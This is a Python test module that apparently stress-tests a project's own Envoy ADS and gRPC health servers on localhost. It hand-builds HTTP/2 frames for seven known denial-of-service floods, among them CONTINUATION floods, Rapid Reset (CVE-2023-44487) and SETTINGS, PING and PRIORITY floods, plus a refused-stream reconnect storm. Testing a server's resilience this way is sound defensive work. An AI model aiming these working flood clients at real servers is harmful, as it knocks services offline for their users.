"""Clients that flood a port with HTTP/2 frames, as load: each kind is one known attack on HTTP/2 servers."""

import asyncio
import contextlib
import os
import ssl
from collections.abc import Callable, Coroutine, Iterator
from functools import partial
from itertools import count, repeat
from pathlib import Path

import grpc.aio
from envoy.service.discovery.v3.discovery_pb2 import DiscoveryRequest
from hpack import Encoder

from osm_probes.snapshot.snapshot import CLUSTER
from tests.ads.client import SERVER_NAME, STREAM, open_channel
from tests.faults.identity import Credentials, credentials, proxy
from tests.faults.proxies import load_credentials, tls_context

_SECONDS = float(os.environ.get("FS", "20"))
"""A flood ends by itself after this time."""
_RECONNECTS = 2000
"""A connection that the server closes is opened again at most so many times."""
_BATCH = 65536
_REFUSED_A_SECOND = 1000
NO_POD = 1_000_000
"""Proxies with this number or a higher one have no pod."""

_HEALTH = "/grpc.health.v1.Health/Check"
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 2, 3, 4, 6, 9
_ACK, _END_HEADERS = 1, 4

Chunks = Callable[[str], Iterator[bytes]]
"""The path of a method -> what a flood sends, without an end."""


def _frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS) + _frame(_SETTINGS, flags=_ACK)
"""What a client sends first."""


def _filled(frame: bytes) -> bytes:
    return frame * (_BATCH // len(frame))


def _headers(path: str) -> bytes:
    """A request's header block, which changes no table of the decoder, so that it may be sent many times."""
    fields = {":method": "POST", ":scheme": "https", ":path": path, ":authority": SERVER_NAME, "te": "trailers"}
    encoder = Encoder()
    encoder.header_table_size = 0
    return encoder.encode([*fields.items(), ("content-type", "application/grpc")])


def continuation(path: str) -> Iterator[bytes]:
    """One request whose headers never end: CONTINUATION frames with many small fields."""
    yield _frame(_HEADERS, _headers(path), stream=1)
    fields = b"".join(b"\x00\x06x-%04d\x14%b" % (number, b"v" * 20) for number in range(400))
    yield from repeat(_filled(_frame(_CONTINUATION, fields, stream=1)))


def empty_continuation(path: str) -> Iterator[bytes]:
    """One request whose headers never end: CONTINUATION frames without fields."""
    yield _frame(_HEADERS, _headers(path), stream=1)
    yield from repeat(_filled(_frame(_CONTINUATION, stream=1)))


def rapid_reset(path: str) -> Iterator[bytes]:
    """Requests that are cancelled at once (CVE-2023-44487)."""
    headers = _headers(path)
    streams = count(1, 2)
    while True:
        yield b"".join(
            _frame(_HEADERS, headers, flags=_END_HEADERS, stream=stream)
            + _frame(_RST_STREAM, (8).to_bytes(4, "big"), stream=stream)
            for stream in (next(streams) for _ in range(200))
        )


def settings(_path: str) -> Iterator[bytes]:
    """SETTINGS frames, each of which must be acknowledged."""
    return repeat(_filled(_frame(_SETTINGS, bytes((0, 3, 0, 0, 0, 100)))))


def ping(_path: str) -> Iterator[bytes]:
    """PING frames, each of which must be answered."""
    return repeat(_filled(_frame(_PING, b"12345678")))


def empty_data(path: str) -> Iterator[bytes]:
    """One request with DATA frames without data, which no flow control limits."""
    yield _frame(_HEADERS, _headers(path), flags=_END_HEADERS, stream=1)
    yield from repeat(_filled(_frame(_DATA, stream=1)))


def priority(_path: str) -> Iterator[bytes]:
    """PRIORITY frames, which need no stream."""
    return repeat(_filled(_frame(_PRIORITY, bytes((0, 0, 0, 3, 1)), stream=1)))


FLOODS: dict[str, Chunks] = {
    "continuation": continuation,
    "empty-continuation": empty_continuation,
    "rapid-reset": rapid_reset,
    "settings": settings,
    "ping": ping,
    "empty-data": empty_data,
    "priority": priority,
}


async def flood(kind: str, port: int, ca: Path, connections: int) -> None:
    """Flood the ADS over `connections` connections of one proxy; those that the server closes are opened again."""
    context = tls_context(load_credentials(ca, 1)[0])
    await _flood(FLOODS[kind], STREAM, partial(_open, port, context), connections)


async def health_flood(kind: str, port: int, _ca: Path, connections: int) -> None:
    """The same for the gRPC health port, which has no TLS."""
    await _flood(FLOODS[kind], _HEALTH, partial(_open, port, None), connections)


Open = Callable[[], Coroutine[None, None, tuple[asyncio.StreamReader, asyncio.StreamWriter]]]


async def _open(port: int, context: ssl.SSLContext | None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    name = SERVER_NAME if context else None
    return await asyncio.open_connection("127.0.0.1", port, ssl=context, server_hostname=name)


async def _flood(chunks: Chunks, path: str, opened: Open, connections: int) -> None:
    sent = [0, 0]
    os.write(1, b"up\n")
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout_at(asyncio.get_running_loop().time() + _SECONDS):
            await asyncio.gather(*(_send_again(chunks, path, opened, sent) for _ in range(connections)))
    os.write(2, b"flood: %d connections, %d bytes\n" % tuple(sent))
    await asyncio.sleep(3600)


async def _send_again(chunks: Chunks, path: str, opened: Open, sent: list[int]) -> None:
    for _ in range(_RECONNECTS):
        with contextlib.suppress(OSError):
            reader, writer = await opened()
            sent[0] += 1
            try:
                async with asyncio.TaskGroup() as group:
                    sending = group.create_task(_send(chunks(path), writer, sent))
                    await _discard(reader)
                    sending.cancel()
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.01)


async def _send(chunks: Iterator[bytes], writer: asyncio.StreamWriter, sent: list[int]) -> None:
    writer.write(PREFACE)
    with contextlib.suppress(OSError):
        for chunk in chunks:
            writer.write(chunk)
            await writer.drain()
            sent[1] += len(chunk)
            await asyncio.sleep(0)


async def _discard(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(_BATCH):
            pass


async def refused(port: int, ca: Path, proxies: int) -> None:
    """`proxies` proxies without a pod, which open streams again whenever they are refused: 1,000 a second together."""
    names = [proxy(NO_POD + number) for number in range(proxies)]
    os.write(1, b"up\n")
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(_SECONDS), asyncio.TaskGroup() as group:
            for name in names:
                group.create_task(_ask_again(port, credentials(ca, name), pause=proxies / _REFUSED_A_SECOND))
    await asyncio.sleep(3600)


async def _ask_again(port: int, own_credentials: Credentials, *, pause: float) -> None:
    async with open_channel(port, own_credentials.certificate, root_pem=own_credentials.root_pem) as channel:
        while True:
            call: grpc.aio.StreamStreamCall[bytes, bytes] = channel.stream_stream(STREAM)()
            with contextlib.suppress(grpc.RpcError, grpc.aio.BaseError, asyncio.InvalidStateError):
                await call.write(DiscoveryRequest(type_url=CLUSTER).SerializeToString())
                await call.read()
            await asyncio.sleep(pause)


KINDS: dict[str, Callable[..., Coroutine[None, None, None]]] = {
    "refused": refused,
    **{f"flood-{kind}": partial(flood, kind) for kind in FLOODS},
    **{f"health-flood-{kind}": partial(health_flood, kind) for kind in FLOODS},
}
